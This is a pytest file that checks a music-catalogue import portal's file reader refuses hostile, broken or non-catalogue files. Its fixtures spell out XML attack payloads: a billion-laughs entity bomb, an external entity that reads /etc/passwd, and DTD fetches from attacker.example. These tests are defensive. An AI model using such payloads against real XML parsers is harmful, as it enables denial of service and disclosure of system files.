"""Files that cannot be imported: hostile, broken, truncated or not a catalogue at all.
Each raises Unreadable with a reason a person understands; nothing of it is read
(hostile ones before a single item)."""

import io
import zipfile

import pytest

from portal.imports.formats import format_of, read
from portal.imports.records import Recording, Unreadable
from tests.imports.formats.messages import ern4_album, items_of

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE NewReleaseMessage [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<NewReleaseMessage xmlns="http://ddex.net/xml/ern/43">
  <ResourceList><SoundRecording><DisplayTitleText>&lol9;</DisplayTitleText>
  </SoundRecording></ResourceList>
</NewReleaseMessage>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE NewReleaseMessage [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<NewReleaseMessage xmlns="http://ddex.net/xml/ern/43">
  <ResourceList><SoundRecording><DisplayTitleText>&secret;</DisplayTitleText>
  </SoundRecording></ResourceList>
</NewReleaseMessage>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE NewReleaseMessage SYSTEM "http://attacker.example/evil.dtd">
<NewReleaseMessage xmlns="http://ddex.net/xml/ern/43"/>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<NewReleaseMessage xmlns="http://ddex.net/xml/ern/43"/>
"""


def refusal(data: bytes) -> Unreadable:
    """The Unreadable the file raises, having yielded nothing."""
    read_so_far: list[object] = []
    with pytest.raises(Unreadable) as raised:
        read_so_far.extend(read(io.BytesIO(data)))
    assert read_so_far == []
    return raised.value


@pytest.mark.parametrize(
    "document", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY]
)
def test_a_document_type_declaration_is_refused_before_anything_is_expanded(
    document: str,
) -> None:
    refused = refusal(document.encode())

    assert "document type" in refused.message
    with pytest.raises(Unreadable):
        format_of(io.BytesIO(document.encode()))


def test_an_entity_reference_after_the_root_without_a_dtd_is_not_well_formed() -> None:
    document = ern4_album().replace(
        "Harbour Lights</DisplayTitleText>", "&lol9;</DisplayTitleText>"
    )

    with pytest.raises(Unreadable) as raised:
        items_of(document)

    assert "not well-formed" in raised.value.message
    assert "undefined entity" in raised.value.message


def test_a_truncated_message_says_it_was_cut_short_after_what_it_read() -> None:
    document = ern4_album().encode()
    cut = document[: document.index(b"<ReleaseList>") + 200]

    read_so_far: list[object] = []
    with pytest.raises(Unreadable) as raised:
        read_so_far.extend(read(io.BytesIO(cut)))

    assert "cut short" in raised.value.message
    assert raised.value.where.startswith("line ")
    # The writer rolls the file back: what came before the break is never kept.
    assert [type(item) for item in read_so_far] == [Recording] * 3


def test_broken_xml_names_the_line_and_column() -> None:
    document = ern4_album().replace("</DisplayTitleText>", "</DisplayTitle>", 1)
    line = document[: document.index("</DisplayTitle>")].count("\n") + 1

    with pytest.raises(Unreadable) as raised:
        items_of(document)

    assert raised.value.message == "The file is not well-formed XML (mismatched tag)."
    assert raised.value.where.startswith(f"line {line}, column ")


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"", "The file is empty."),
        (b"   \n  ", "neither a DDEX ERN message nor the catalogue CSV"),
        (b'<?xml version="1.0"?><CatalogListMessage/>', "root element is <CatalogListMessage>"),
        (b'<?xml version="1.0"?><rss version="2.0"><channel/></rss>', "not a DDEX ERN message"),
        (b'<NewReleaseMessage xmlns="urn:something:else"/>', "not DDEX ERN's"),
        (b'<NewReleaseMessage xmlns="http://ddex.net/xml/ern/37"/>', "ERN 3.7 is not read"),
        (b"<NewReleaseMessage/>", "not DDEX ERN's"),
        (b"<!DOCTYPE html>\n<html><body>Sign in</body></html>", "web page (HTML)"),
        (b"<html lang='en'><head><title>404</title></head></html>", "web page (HTML)"),
        (b"\x00\x01\x02\x03binary", "neither a DDEX ERN message nor the catalogue CSV"),
        (b"%PDF-1.7\n...", "a PDF document"),
        (b"\x1f\x8b\x08\x00", "gzip archive"),
        (b"<", "cut short"),
        (b"<NewReleaseMessage", "cut short"),
    ],
)
def test_what_is_not_a_catalogue_file_is_refused_saying_what_it_is(data: bytes, says: str) -> None:
    assert says in refusal(data).message


def test_a_spreadsheet_saved_in_its_own_format_is_told_to_be_saved_as_csv() -> None:
    workbook = io.BytesIO()
    with zipfile.ZipFile(workbook, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")

    assert "save it as CSV" in refusal(workbook.getvalue()).message


def test_xml_nested_deeper_than_any_message_is_refused() -> None:
    depth = 5000
    document = (
        '<NewReleaseMessage xmlns="http://ddex.net/xml/ern/43"><ResourceList>'
        + "<a>" * depth
        + "</a>" * depth
        + "</ResourceList></NewReleaseMessage>"
    )

    assert "nests deeper" in refusal(document.encode()).message


def test_a_root_element_buried_under_a_megabyte_of_comment_is_refused() -> None:
    document = "<!--" + "x" * (2 * 1024 * 1024) + '--><NewReleaseMessage xmlns="a"/>'

    assert "first MiB" in refusal(document.encode()).message
